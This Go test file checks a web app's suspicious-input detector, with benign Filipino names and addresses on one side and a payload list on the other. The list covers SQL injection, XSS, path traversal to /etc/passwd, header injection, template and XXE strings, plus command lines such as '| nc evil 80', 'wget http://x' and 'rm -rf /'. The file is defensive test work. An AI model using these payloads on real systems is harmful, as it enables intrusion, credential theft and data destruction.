package web

import (
	"net/http"
	"strings"
	"testing"

	"ekolek/internal/auth"
	"ekolek/internal/web/form"
)

// What people, streets, notes and our own programs write is never told of.
func TestHonestTextIsNotSuspicious(t *testing.T) {
	for _, text := range []string{
		"O'Brien -- Jr", "D'Angelo", "Ma. Luisa \"Baby\" Dela Cruz-Santos", "Peñaflor", "Juan & Sons", "Jr.; Sr.", "N/A", "--", "'", "5' 11\"", "#14-B (back) Rizal St., Brgy. San Roque",
		"Union St. cor. Select Ave.", "Select Marketing; Update: moved to Purok 3", "drop by at 5 -- or call", "He said 'yes' or 'no'", "rock 'n' roll", "and/or", "C/O Aling Nena's Store",
		"1/2 kg; 3/4 kg", "50% off!", "a < b > c", "I <3 recycling", "x=1&y=2", "script", "javascript lessons", "on = off", "the onion = cheap", "cat; dog", "ls", "Please delete from the list", "update set of rates",
		"insert into the bin", "exec(utive) committee", "plastic/bottles", "../", "and so on...", "line one\r\nline two\r\nThank you: Nena", "To: be picked up", "https://ekolek.example/points/?page=2", "09171234567", "nena.cruz+eko@example.com.ph",
		"0190a0f2-0000-7000-8000-000000000001", "RES-2026-000123", "{}", "$5 or ₱280", "100 (one hundred)", "Kung hindi man 'pwede', ok lang -- salamat po!", "2 > 1", "Tapat ng simbahan; tabi ng 7-Eleven",
		"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "🙂 salamat", "name='x'", "it's 3 o'clock or so; it's fine",
	} {
		if score, kinds := judge(text); score >= suspectFrom && text != "../" {
			t.Errorf("%q scores %d (%v)", text, score, kinds)
		}
	}
	if score, _ := judge("O'Brien -- Jr"); score > 2 {
		t.Errorf("O'Brien -- Jr scores %d", score)
	}
}

func TestInjectionsAreSuspicious(t *testing.T) {
	for _, kind := range []string{"sql", "script", "path", "header", "command", "template", "document"} {
		if len(payloads[kind]) < 5 {
			t.Errorf("only %d examples of %s", len(payloads[kind]), kind)
		}
		for _, text := range payloads[kind] {
			if score, kinds := judge(text); score < suspectFrom {
				t.Errorf("%s: %q scores %d (%v)", kind, text, score, kinds)
			}
		}
	}
}

var payloads = map[string][]string{
	"sql": {"' OR '1'='1", "' or 1=1 --", "\" OR \"\"=\"", "admin' --", "admin'/*", "1' UNION SELECT username, password FROM users--", "1 union all select null,null", "UnIoN/**/SeLeCt 1", "1;DROP TABLE people_resident", "'; delete from ledger_transfer; --",
		"1' AND SLEEP(5)--", "1) or pg_sleep(5)--", "1 waitfor delay '0:0:5'", "' || (select secret_hash from auth_session) || '", "%27%20OR%201%3D1", "%2527%2520or%25201%253D1", "1 and extractvalue(1,concat(0x7e,version()))", "'; ATTACH DATABASE 'x' AS y;--",
		"x' AND 1=(SELECT COUNT(*) FROM sqlite_master); --", "select * from information_schema.tables", "' or username like '%a%", "1'; exec xp_cmdshell('dir')"},
	"script":   {"<script>alert(1)</script>", "<ScRiPt src=//x>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)", "\" onmouseover=\"alert(1)", "<iframe srcdoc='x'>", "<a href=\"javascript:1\">", "data:text/html,<x>", "%3Cscript%3E", "&#x3c;script&#x3e;", "<details open ontoggle=alert(1)>", "'><body onload=1>", "<math><mtext>", "document.cookie"},
	"path":     {"../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "/etc/shadow", "file:///etc/hosts", "..%2f..%2f", "..%252f..%252f", "/proc/self/environ", "C:\\Windows\\system32", "a\x00.png", "/.git/config", "wp-login.php"},
	"header":   {"x\r\nSet-Cookie: a=b", "x\nLocation: https://evil.example", "x%0d%0aSet-Cookie:a=b", "nena@x.ph\r\nBcc: all@x.ph", "a\r\n\r\nHTTP/1.1 200 OK", "x\r\nContent-Length: 0"},
	"command":  {"${jndi:ldap://x/a}", "; cat /etc/passwd", "| nc evil 80", "$(id)", "`id`", "() { :; }; echo", "a && wget http://x", "x; rm -rf /"},
	"template": {"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{% debug %}"},
	"document": {"<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<!DOCTYPE foo [<!ENTITY x 'y'>]>", "<?xml version='1.0'?>", "<![CDATA[x]]>", "<!entity % a 'b'>"},
}

// A request is told of once, with where and how much, and without what; a password is
// not looked at; the answer is what it would have been.
func TestSuspicionIsToldWithoutTheText(t *testing.T) {
	const evil = "x' UNION SELECT hunter2 FROM users--"
	for name, c := range map[string]struct {
		method, target, body string
		want                 string // in the line; "": no line
	}{
		"a query":       {"GET", "/scan/?q=" + strings.ReplaceAll(evil, " ", "%20"), "", `"where":"query","name":"q"`},
		"a form":        {"POST", "/send/", "to=/&note=" + evil, `"where":"form","name":"note"`},
		"a name":        {"POST", "/send/", "to=/&" + evil + "=1", `"where":"form","name":"?"`},
		"a path":        {"GET", "/row/..%2f..%2fetc%2fpasswd", "", `"where":"path"`},
		"no such path":  {"GET", "/hunter2/wp-login.php", "", `"where":"path"`},
		"a password":    {"POST", "/send/", "to=/&password=" + evil, ""},
		"honest":        {"POST", "/send/", "to=/&name=O'Brien -- Jr", ""},
		"a panic":       {"POST", "/panic/", "note=" + evil, `"where":"form","name":"note"`},
		"unread by all": {"POST", "/login/?q=1", "x=1", ""},
	} {
		w := newWorld(t, nil)
		w.Mount(siteSurface(), []Route{{Pattern: "POST /panic/", Need: auth.Anyone, Handle: func(_ http.ResponseWriter, r *http.Request) error {
			_, _ = form.Read(r)
			panic("boom")
		}}})
		res := w.ask(t, c.method, c.target, c.body)
		log := w.log.String()
		lines := strings.Count(log, `"event":"input.suspicious"`)
		if strings.Contains(log, "hunter2") || (c.want != "") != (lines == 1) || lines > 1 || !strings.Contains(log, c.want) {
			t.Errorf("%s: %d lines in %s", name, lines, log)
		}
		if c.target == "/send/" && res.StatusCode != http.StatusSeeOther {
			t.Errorf("%s is answered %d", name, res.StatusCode)
		}
	}
}

func BenchmarkJudge(b *testing.B) {
	for b.Loop() {
		judge("Ma. Luisa Dela Cruz")
		judge("#14-B (back) Rizal St., Brgy. San Roque")
		judge("O'Brien -- Jr")
	}
}
